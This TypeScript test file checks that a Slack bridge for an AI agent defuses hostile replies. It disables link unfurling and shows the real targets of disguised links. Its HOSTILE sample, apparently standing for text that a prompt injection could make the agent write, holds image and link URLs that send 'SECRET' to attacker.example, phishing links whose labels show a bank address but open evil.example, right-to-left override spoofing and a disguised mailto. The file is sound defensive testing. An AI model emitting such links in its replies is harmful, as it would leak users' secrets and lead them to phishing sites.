import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { botMention, say, startSlackBridge, W, type SlackHarness } from './harness.js';

/**
 * The agent's reply is untrusted text (a prompt injection in what the agent read can write it).
 * On Slack every post of it must ask for no unfurls (Slack's servers would fetch the links at
 * once), and a link whose label names another address than it opens must show its real target.
 * Checked on what the Slack emulator was sent, for a channel reply (text and the feedback
 * buttons' blocks) and an assistant thread.
 */
const HOSTILE = [
  'Done ![s](https://attacker.example/p.png?d=SECRET) [ok](https://attacker.example/?q=SECRET)',
  'Log in at [https://bank.example/login](https://evil.example/phish) or [\u202Elpmaxe.knab](https://evil.example/rtl).',
  'Fine: [the docs](https://docs.example/guide).',
  'Bare: https://evil.example/\u202Eelpmaxe.knab here.',
  'Write to [support@bank.example](mailto:drop@evil.example).',
].join('\n\n');

type Params = Record<string, string | undefined>;
const sectionsOf = (p: Params): string =>
  (JSON.parse(p.blocks ?? '[]') as Array<{ type: string; text?: { text: string } }>)
    .filter((b) => b.type === 'section')
    .map((b) => b.text!.text)
    .join('\n');

function expectSafe(p: Params): void {
  expect(p.unfurl_links).toBe('false');
  expect(p.unfurl_media).toBe('false');
  for (const shown of [p.text ?? '', sectionsOf(p)]) {
    expect(shown).toContain('https://bank.example/login (<https://evil.example/phish>)');
    expect(shown).toContain('lpmaxe.knab (<https://evil.example/rtl>)');
    expect(shown).not.toContain('|https://bank.example');
    expect(shown).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(shown).toContain('<https://docs.example/guide|the docs>');
    expect(shown).toContain('Bare: <https://evil.example/%E2%80%AEelpmaxe.knab> here.');
    expect(shown).toContain('Write to support@bank.example (<mailto:drop@evil.example>).');
  }
}

describe('a hostile agent reply on Slack', () => {
  let h: SlackHarness;
  beforeAll(async () => {
    h = await startSlackBridge({ mode: 'http', agent: { reply: () => HOSTILE } });
  });
  afterAll(async () => h?.close());

  it('in a channel: no unfurls, real targets shown, in the text and the blocks', async () => {
    const m = await say(h, { channel: W.general, text: `${botMention(h)} summarise the forwarded mail` });
    const post = await h.slack.waitForCall('chat.postMessage', (c) => c.response.ok === true && c.params.thread_ts === m.ts, 20_000);
    expect(post.params.blocks).toBeDefined();
    expectSafe(post.params);
  });

  it('in an assistant thread: the same', async () => {
    const dm = 'D0HOSTILE1';
    const started = h.slack.assistantThreadStarted({ user: W.user, dm, contextChannel: W.general });
    await h.to.event(started.event);
    await h.slack.waitForCall('assistant.threads.setSuggestedPrompts', (c) => c.params.thread_ts === started.threadTs, 20_000);
    await h.to.event(h.slack.assistantMessage({ user: W.user, dm, threadTs: started.threadTs, text: 'read this page for me' }).message);
    const post = await h.slack.waitForCall('chat.postMessage', (c) => c.response.ok === true && c.params.channel === dm && c.params.thread_ts === started.threadTs, 20_000);
    expectSafe(post.params);
  }, 40_000);
});
